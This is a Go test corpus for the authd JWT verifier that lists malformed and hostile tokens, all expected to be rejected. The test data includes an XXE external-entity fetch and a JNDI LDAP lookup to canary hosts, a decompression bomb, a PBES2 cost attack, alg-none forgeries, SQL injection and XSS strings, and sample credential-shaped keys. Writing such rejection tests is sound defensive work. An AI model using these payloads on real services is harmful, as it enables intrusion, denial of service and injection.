package tokentest

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/authd-project/authd/token"
)

// parts: not three of them, or not where they belong.
func (c *corpus) parts() {
	c.about("parts", "RFC 7519 section 7.2; RFC 7515 section 7.1")
	h, b, s := c.headPart, c.bodyPart, c.sig
	for name, raw := range map[string]string{
		"one": h + b + s, "header-only": h, "two": h + "." + b, "claims-and-signature": b + "." + s, "four": c.Good + "." + s, "five": h + "." + b + "." + s + "." + s + "." + s, "six": c.Good + "." + c.Good,
		"dot": ".", "two-dots": "..", "three-dots": "...", "dot-before": "." + c.Good, "dot-after": c.Good + ".", "two-dots-for-one": h + ".." + b + "." + s, "claims-first": b + "." + h + "." + s,
		"signature-first": s + "." + h + "." + b, "no-header": "." + b + "." + s, "twice": c.Good + c.Good, "comma-list": c.Good + "," + c.Good, "space-list": c.Good + " " + c.Good, "star": "*", "letter": "a",
		"many-dots": strings.Repeat(".", 4000), "many-parts": strings.Repeat("a.", 2000), "reversed": reversed(c.Good), "signature-only": s, "brace": "{", "dash": "-", "underscores": "_._._",
	} {
		c.add(name, raw, token.ErrMalformed)
	}
	c.add("no-claims", h+".."+s, token.ErrSignature)
	c.add("no-claims-signed", c.signing(c.Key, h+"."), token.ErrMalformed)
	c.add("no-header-signed", c.signing(c.Key, "."+b), token.ErrMalformed)
	c.add("header-for-claims", c.signing(c.Key, h+"."+h), token.ErrMalformed)
	c.add("claims-for-header", c.signing(c.Key, b+"."+b), token.ErrMalformed)
	c.add("token-for-claims", c.signing(c.Key, h+"."+encode(c.Good)), token.ErrMalformed)
}

func reversed(s string) string {
	b := make([]byte, len(s))
	for i := range b {
		b[i] = s[len(s)-1-i]
	}
	return string(b)
}

// encrypted: tokens by RFC 7516, which a verifier of signed ones cannot judge.
func (c *corpus) encrypted() {
	c.about("jwe", "RFC 7516 section 9; RFC 8725 section 2.3")
	for _, m := range []struct{ alg, enc string }{
		{"dir", "A256GCM"}, {"dir", "A128CBC-HS256"}, {"RSA-OAEP", "A256GCM"}, {"RSA1_5", "A128CBC-HS256"}, {"ECDH-ES", "A256GCM"}, {"A256KW", "A256GCM"}, {"PBES2-HS256+A128KW", "A128GCM"}, {c.alg, "A256GCM"}, {"none", "none"},
	} {
		header := c.header.set("alg", quote(m.alg)).last("enc", quote(m.enc)).last("cty", `"JWT"`)
		h := encode(header.String())
		c.add("compact/"+m.alg+"+"+m.enc, h+"."+encode("key")+"."+encode("0123456789ab")+"."+encode(c.Good)+"."+encode("0123456789abcdef"), token.ErrMalformed)
		c.add("empty/"+m.alg+"+"+m.enc, h+"....", token.ErrMalformed)
		c.add("three-parts/"+m.alg+"+"+m.enc, c.signing(c.Key, h+"."+c.bodyPart), token.ErrMalformed)
	}
	sealed := fmt.Sprintf(`"iv":%s,"ciphertext":%s,"tag":%s`, quote(encode("0123456789ab")), quote(encode(c.Good)), quote(encode("0123456789abcdef")))
	protected := `"protected":` + quote(encode(`{"alg":"dir","enc":"A256GCM"}`))
	c.add("flattened", `{`+protected+`,`+sealed+`}`, token.ErrMalformed)
	c.add("general", `{`+protected+`,"recipients":[{"encrypted_key":""}],`+sealed+`}`, token.ErrMalformed)
	c.add("bomb", encode(`{"alg":"dir","enc":"A256GCM","zip":"DEF"}`)+"."+"."+encode("0123456789ab")+"."+encode(deflated(strings.Repeat("a", 1<<20)))+"."+encode("0123456789abcdef"), token.ErrMalformed)
	c.add("costly-password", encode(`{"alg":"PBES2-HS512+A256KW","enc":"A256GCM","p2c":2147483647,"p2s":"c2FsdA"}`)+"."+encode("key")+"."+encode("0123456789ab")+"."+encode("x")+"."+encode("0123456789abcdef"), token.ErrMalformed)
}

// jsonForms: the JSON serializations of the good token and of hostile ones.
func (c *corpus) jsonForms() {
	c.about("jws-json", "RFC 7519 section 3; RFC 7515 section 7.2")
	member := func(name, value string) string { return quote(name) + ":" + quote(value) }
	flat := member("protected", c.headPart) + "," + member("signature", c.sig)
	payload := member("payload", c.bodyPart)
	bad := `"header":{"alg":"none"},"signature":""`
	for name, raw := range map[string]string{
		"flattened":                       `{` + payload + `,` + flat + `}`,
		"flattened-with-header":           `{` + payload + `,` + flat + `,"header":{"kid":` + quote(c.kid) + `}}`,
		"flattened-unprotected":           `{` + payload + `,"header":` + c.header.String() + `,` + member("signature", c.sig) + `}`,
		"flattened-none":                  `{` + payload + `,` + bad + `}`,
		"flattened-spaced":                " \n" + `{ ` + payload + `, ` + flat + ` }`,
		"flattened-plain-payload":         `{"payload":` + c.claims.String() + `,` + flat + `}`,
		"general":                         `{` + payload + `,"signatures":[{` + flat + `}]}`,
		"general-none-and-good":           `{` + payload + `,"signatures":[{` + bad + `},{` + flat + `}]}`,
		"general-good-and-none":           `{` + payload + `,"signatures":[{` + flat + `},{` + bad + `}]}`,
		"general-without-signatures":      `{` + payload + `,"signatures":[]}`,
		"general-null":                    `{` + payload + `,"signatures":null}`,
		"both":                            `{` + payload + `,` + flat + `,"signatures":[{` + flat + `}]}`,
		"list":                            `[{` + payload + `,` + flat + `}]`,
		"list-of-parts":                   `[` + quote(c.headPart) + `,` + quote(c.bodyPart) + `,` + quote(c.sig) + `]`,
		"string":                          quote(c.Good),
		"login-answer":                    `{"access_token":` + quote(c.Good) + `,"token_type":"Bearer"}`,
		"flattened-in-base64url":          encode(`{` + payload + `,` + flat + `}`),
		"general-in-base64":               base64.StdEncoding.EncodeToString([]byte(`{` + payload + `,"signatures":[{` + flat + `}]}`)),
		"flattened-between-dots":          "." + encode(`{`+payload+`,`+flat+`}`) + ".",
		"compact-and-flattened":           c.Good + `{` + payload + `,` + flat + `}`,
		"bare-claims":                     c.claims.String(),
		"bare-header-and-claims":          c.header.String() + c.claims.String(),
		"bare-header-dot-claims":          c.header.String() + "." + c.claims.String() + "." + c.sig,
		"empty-object":                    `{}`,
		"XML":                             `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "` + c.canaryURL("/dtd") + `">]><a>&b;</a>`,
		"SAML":                            base64.StdEncoding.EncodeToString([]byte(`<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>`)),
		"flattened-with-a-long-signature": `{` + payload + `,` + member("protected", c.headPart) + `,` + member("signature", strings.Repeat("A", 4000)) + `}`,
	} {
		c.add(name, raw, token.ErrMalformed)
	}
}

// otherTokens: tokens of other formats, and words that careless code lets pass.
func (c *corpus) otherTokens() {
	c.about("other-token", "RFC 6750 section 2.1")
	for name, raw := range map[string]string{
		"SD-JWT": c.Good + "~", "SD-JWT-disclosure": c.Good + "~" + encode(`["salt","sub","mallory"]`) + "~", "SD-JWT-key-binding": c.Good + "~~" + c.Good, "PASETO-local": "v4.local." + encode(strings.Repeat("x", 64)),
		"PASETO-public": "v4.public." + encode(c.claims.String()+strings.Repeat("x", 64)), "macaroon": "MDAxY2xvY2F0aW9uIGh0dHA6Ly9teWJhbmsvCg", "UUID": "8d0f9a1c-4f56-4ab5-9f39-6c1f2a4b7e55", "refresh-token": "authd_rt_" + encode(strings.Repeat("x", 70)),
		"refresh-token-prefix": "authd_rt_", "API-key": "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "GitHub": "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "fernet": "gAAAAABfJ1", "hex": strings.Repeat("ab", 32), "Basic": base64.StdEncoding.EncodeToString([]byte("alice:password")),
		"null": "null", "undefined": "undefined", "true": "true", "false": "false", "object-Object": "[object Object]", "none": "none", "anonymous": "anonymous", "admin": "admin", "nil": "<nil>", "template": "{{token}}", "shell": "$TOKEN",
		"percent-s": "%s", "zero": "0", "one": "1", "star-star-star": "***", "redacted": "[token]", "SQL": "' OR 1=1--", "NUL": "\x00", "script": "<script>alert(1)</script>", "emoji": "🔑", "kid": c.kid, "dev-null": "/dev/null", "Bearer": "Bearer",
		"COSE": "0oRDoQEmoQRCMTFUVGhpcyBpcyB0aGUgY29udGVudC5YQI7", "PEM": "-----BEGIN PUBLIC KEY-----", "JNDI": "${jndi:ldap://" + c.canaryHost() + "/a}", "URL": c.canaryURL("/token"),
	} {
		c.add(name, raw, token.ErrMalformed)
	}
}
